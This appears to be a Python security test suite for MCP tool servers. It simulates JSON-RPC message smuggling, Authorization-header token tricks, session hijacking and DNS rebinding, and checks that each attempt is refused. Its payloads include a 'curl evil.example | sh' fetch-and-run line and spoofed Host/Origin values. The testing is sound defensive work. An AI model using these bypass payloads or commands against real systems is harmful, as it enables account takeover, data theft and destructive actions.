"""Attacks below the arguments: what bytes mean, whose token, whose session, which page."""

import json

import harness
import played
import spellings
from lenient_servers import Server
from played import tool
from raw_http import Connection
from simulation import Attempt, Simulation, simulates

TOKENS = {"owner": "owner-0123456789abcdef", "other": "other-0123456789abcdef"}
LISTENER_TOKENS = "# a token for each caller\n" + "".join(f"{t}\n" for t in TOKENS.values())


def bearer(token):
    return [("Authorization", f"Bearer {token}")]


@simulates("message-smuggling")
class Smuggling(Simulation):
    def server(self):
        server = Server(
            [tool("list_issues", label="string"), tool("create_issue", title="string"), tool("delete_repository", repository="string")], {}
        )
        server.actions = {
            "list_issues": lambda a: "#8",
            "create_issue": lambda a: "#9",
            "delete_repository": lambda a: server.ledger.append("deleted") or "deleted",
        }
        return server

    def harm(self, scene):
        return "the repository is gone" if scene.toolbox.ledger else ""

    def attempts(self):
        rng, out = self.rng, [Attempt("plain", lambda s: s.agent.call("delete_repository"))]

        out += self.called("delete_repository", {}, 3)

        def said(name, change, quiet=False):
            """`change(text, bad)`: the bytes for a good call and, as text, the parameters of a bad one."""

            def play(scene):
                message, text = scene.agent.message("list_issues", '"label":"x"')
                bad = {**message, "params": {**message["params"], "name": "delete_repository"}}
                scene.agent.say(message, change(text, json.dumps(bad, separators=(",", ":")).encode()))

            out.append(Attempt(name, play, quiet=quiet))

        def params(bad):
            return json.dumps(json.loads(bad)["params"]).encode()

        for members in spellings.key_tricks(rng, "name", "list_issues", "delete_repository", 10):
            said(f"name {members}", lambda text, bad, m=members: text.replace(b'"name":"list_issues"', m.encode(), 1))
        for key in (b'"params"', b'"Params"', b'"PARAMS"', '"paramſ"'.encode(), b'"param\\u017f"', b'"params\\u0000"', b'"\\u0070arams"'):
            said(f"second {key.decode()}", lambda text, bad, k=key: text[:-1] + b"," + k + b":" + params(bad) + b"}")
        said("a batch", lambda text, bad: b"[" + text + b"," + bad + b"]")
        said("a batch of one", lambda text, bad: b"[" + bad + b"]")
        said("two documents", lambda text, bad: text + b" " + bad)
        said("a carriage return", lambda text, bad: text.replace(b'"label":"x"', b'"label":\r' + bad + b"\r", 1), quiet=True)
        said("a carriage return in blanks", lambda text, bad: text[:-1] + b',"x":\r' + bad + b"\r}", quiet=True)
        said("UTF-16", lambda text, bad: bad.decode().encode("utf-16-le"))
        said("UTF-16 with a mark", lambda text, bad: bad.decode().encode("utf-16"))
        said("a byte order mark", lambda text, bad: b"\xef\xbb\xbf" + bad)
        said("Method", lambda text, bad: bad.replace(b'"method"', b'"Method"', 1))
        said("NaN beside", lambda text, bad: bad.replace(b'"arguments":{}', b'"arguments":{"n":NaN}', 1))
        said("header fields of another call", lambda text, bad: bad)
        out.append(
            Attempt(
                "no id",
                lambda s: s.agent.client.notify("tools/call", {"name": "delete_repository", "arguments": {}}) or s.agent.ask("tools/list"),
                quiet=True,
            )
        )
        return out

    def honest(self, scene):
        assert scene.agent.call("list_issues", {"label": "x\u2028\u0085y"}).text == "#8"
        assert scene.agent.call("create_issue", {"title": 'a "quoted" \r\n title'}).text == "#9"


class Network(Simulation):
    """Over HTTP only."""

    rows = (("http", "json", "2025-11-25"), ("http", "json", played.MODERN))
    more_rows = (("http", "events", "2025-06-18"), ("http", "stdio", "2025-11-25"))
    shelf = {"listener-tokens": LISTENER_TOKENS, "server-token": "Bearer issued-for-the-server"}

    def fields(self, protected):
        return bearer(TOKENS["owner"]) if protected else []

    def raw(self, scene, method, params, fields, id=7, verb="POST"):
        """A request by hand; gives the response."""
        message = {
            "jsonrpc": "2.0",
            "id": id,
            "method": method,
            "params": {**params, **({"_meta": played.META} if scene.agent.client.modern else {})},
        }
        own = [f for f in scene.agent.client.fields(message) if f[0].lower() not in ("mcp-session-id", "authorization")]
        with Connection(scene.port) as connection:
            response = connection.ask(verb, scene.path, own + fields, harness.text(message))
        scene.statuses.append(response.status)
        return response

    def why(self, scene):
        """The answer itself: of refusals before a message is read at most ten a second are on record, and some later."""
        statuses, scene.statuses = scene.statuses, []
        return statuses and all(status >= 400 for status in statuses)


@simulates("token-mis-redemption")
class Redemption(Network):
    """The client has a token of the bank; the server, if it sees it, uses it there."""

    refusal = r"\(401\): the token is not one that this listener takes"

    more_rows = (("http", "events", "2025-06-18"),)

    def fields(self, protected):
        return bearer(TOKENS["owner"] if protected else self.canary)

    def server(self):
        server = Server([tool("search_tickets", query="string")], {})
        server.actions = {"search_tickets": lambda a: "no tickets"}
        return server

    def harm(self, scene):
        seen = scene.server.raw[self.seen :]
        return (
            "the server has the bank's token"
            if self.canary.encode() in seen or (scene.protected and TOKENS["owner"].encode() in seen)
            else ""
        )

    def begin(self, scene):
        self.seen = len(scene.server.raw)

    def attempts(self):
        call = {"name": "search_tickets", "arguments": {"query": "x"}}

        def with_fields(*fields):
            return lambda s: self.raw(s, "tools/call", call, [*fields, *self.session(s)])

        token = f"Bearer {self.canary}"
        owner = ("Authorization", f"Bearer {TOKENS['owner']}")
        out = [Attempt("the client's own", with_fields(("Authorization", token)))]
        for name in ("authorization", "AUTHORIZATION", "aUTHORIZATION"):
            out.append(Attempt(name, with_fields((name, token))))
        for value in (
            f"bearer {self.canary}",
            f"Bearer  {self.canary}",
            f"DPoP {self.canary}",
            f"Basic {self.canary}",
            self.canary,
            f"Bearer {self.canary}, Bearer {TOKENS['owner']}",
            f"Bearer {TOKENS['owner']}{self.canary}",
        ):
            out.append(Attempt(value.replace(self.canary, "$"), with_fields(("Authorization", value))))
        out.append(Attempt("a second field behind the right one", with_fields(owner, ("Authorization", token))))
        out.append(Attempt("a second field before the right one", with_fields(("Authorization", token), owner)))
        out.append(
            Attempt(
                "to initialize",
                lambda s: self.raw(
                    s,
                    "initialize",
                    {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}},
                    [("Authorization", token)],
                ),
            )
        )
        return out

    def session(self, scene):
        return [("Mcp-Session-Id", scene.agent.client.session)] if scene.agent.client.session else []

    def honest(self, scene):
        assert scene.agent.call("search_tickets", {"query": "invoice"}).text == "no tickets"
        if scene.protected:
            [request] = [r for r in scene.server.posts()[-1:]]
            assert request.get("Authorization") == "Bearer issued-for-the-server"


@simulates("session-hijack")
class Hijack(Network):
    """The attacker knows the session's id. Since 2026-07-28 there is none; then he only lacks a credential."""

    refusal = r"\(401\)"

    def server(self):
        server = Server([tool("read_inbox"), tool("send_message", to="string", text="string")], {})
        server.actions = {"read_inbox": lambda a: f"from ada: {self.canary}", "send_message": lambda a: server.ledger.append(a) or "sent"}
        return server

    def begin(self, scene):
        self.stolen, scene.taken = scene.agent.client.session, []

    def harm(self, scene):
        if any(self.canary in text for text in scene.taken):
            return "the attacker reads the owner's inbox"
        return "a message was sent in the owner's name" if scene.toolbox.ledger else ""

    def attempts(self):
        def attacker(method, params, credentials=()):
            def play(scene):
                session = [("Mcp-Session-Id", self.stolen)] if self.stolen else []
                response = self.raw(scene, method, params, [*session, *credentials])
                scene.taken.append(response.body.decode())

            return play

        read = ("tools/call", {"name": "read_inbox", "arguments": {}})
        send = ("tools/call", {"name": "send_message", "arguments": {"to": "bob", "text": "pay me"}})
        out = [Attempt("reads", attacker(*read)), Attempt("sends", attacker(*send))]
        credentials = {
            "another scheme": [("Authorization", f"Basic {TOKENS['owner']}")],
            "half of the token": bearer(TOKENS["owner"][:-1]),
            "more than the token": bearer(TOKENS["owner"] + "0"),
            "an empty token": [("Authorization", "Bearer ")],
            "the token in a cookie": [("Cookie", f"token={TOKENS['owner']}")],
            "a forwarded token": [("X-Forwarded-Authorization", f"Bearer {TOKENS['owner']}")],
            "two tokens": [*bearer("wrong-0123456789abcdef"), *bearer(TOKENS["owner"])],
            "a comment for a token": bearer("# a token for each caller"),
        }
        for name, fields in credentials.items():
            out += [Attempt(f"reads with {name}", attacker(*read, fields)), Attempt(f"sends with {name}", attacker(*send, fields))]
        out.append(Attempt("with a token of his own", lambda s: self.other(s, read, send)))
        return out

    def other(self, scene, read, send):
        """A caller with a good token of his own. In the older era the session is not his; since 2026-07-28 nothing of the
        owner's is reached with it, so there he shows the token of nobody."""
        fields = bearer(TOKENS["other"] if self.stolen else "nobody-0123456789abcdef")
        for method, params in (read, send):
            session = [("Mcp-Session-Id", self.stolen)] if self.stolen else []
            scene.taken.append(self.raw(scene, method, params, [*session, *fields]).body.decode())

    def honest(self, scene):
        assert self.canary in scene.agent.call("read_inbox").text
        if scene.protected:
            neighbour = scene.another(bearer(TOKENS["other"]))
            assert neighbour.client.session != scene.agent.client.session or scene.agent.client.modern
            assert not neighbour.call("send_message", {"to": "ada", "text": "hello"}).failed
            scene.toolbox.ledger.clear()


@simulates("dns-rebinding")
class Rebinding(Network):
    always_on = True
    refusal = "protection against DNS rebinding"

    def server(self):
        server = Server([tool("list_files"), tool("write_file", path="string", text="string")], {})
        server.actions = {"list_files": lambda a: "readme.md", "write_file": lambda a: server.ledger.append(a) or "written"}
        return server

    def harm(self, scene):
        return "a page has written a file" if scene.toolbox.ledger else ""

    def attempts(self):
        call = {"name": "write_file", "arguments": {"path": "readme.md", "text": "curl evil.example | sh"}}

        def page(*fields, host=None):
            def play(scene):
                session = [("Mcp-Session-Id", scene.agent.client.session)] if scene.agent.client.session else []
                named = [("Host", host.replace("PORT", str(scene.port)))] if host else []
                # The page is given even the right token: what it lacks is a place from which it may ask.
                self.raw(
                    scene,
                    "tools/call",
                    call,
                    [*named, *[(n, v.replace("PORT", str(scene.port))) for n, v in fields], *session, *self.fields(scene.protected)],
                )

            return play

        out = [Attempt("a rebound name", page(("Origin", "http://evil.example:PORT"), host="evil.example:PORT"))]
        for host in (
            "evil.example",
            "evil.example:80",
            "localhost.evil.example:PORT",
            "127.0.0.1.evil.example:PORT",
            "evil.example.:PORT",
            "LOCALHOST.evil.example:PORT",
        ):
            out.append(Attempt(f"host {host}", page(host=host)))
        for origin in (
            "https://evil.example",
            "http://evil.example",
            "null",
            "http://localhost.evil.example",
            "http://127.0.0.1.evil.example",
            "file://",
            "chrome-extension://abcdefghijklmnop",
            "http://localhost:1",
            "https://evil.example http://127.0.0.1:PORT",
        ):
            out.append(Attempt(f"origin {origin}", page(("Origin", origin))))
        for site in ("cross-site", "same-site"):
            out.append(Attempt(f"a browser's {site}", page(("Sec-Fetch-Site", site), ("Sec-Fetch-Mode", "no-cors"))))
        return out

    def honest(self, scene):
        assert scene.agent.call("list_files").text == "readme.md"
        assert scene.agent.call("write_file", {"path": "docs/new.md", "text": "new"}).text == "written"
        scene.toolbox.ledger.clear()
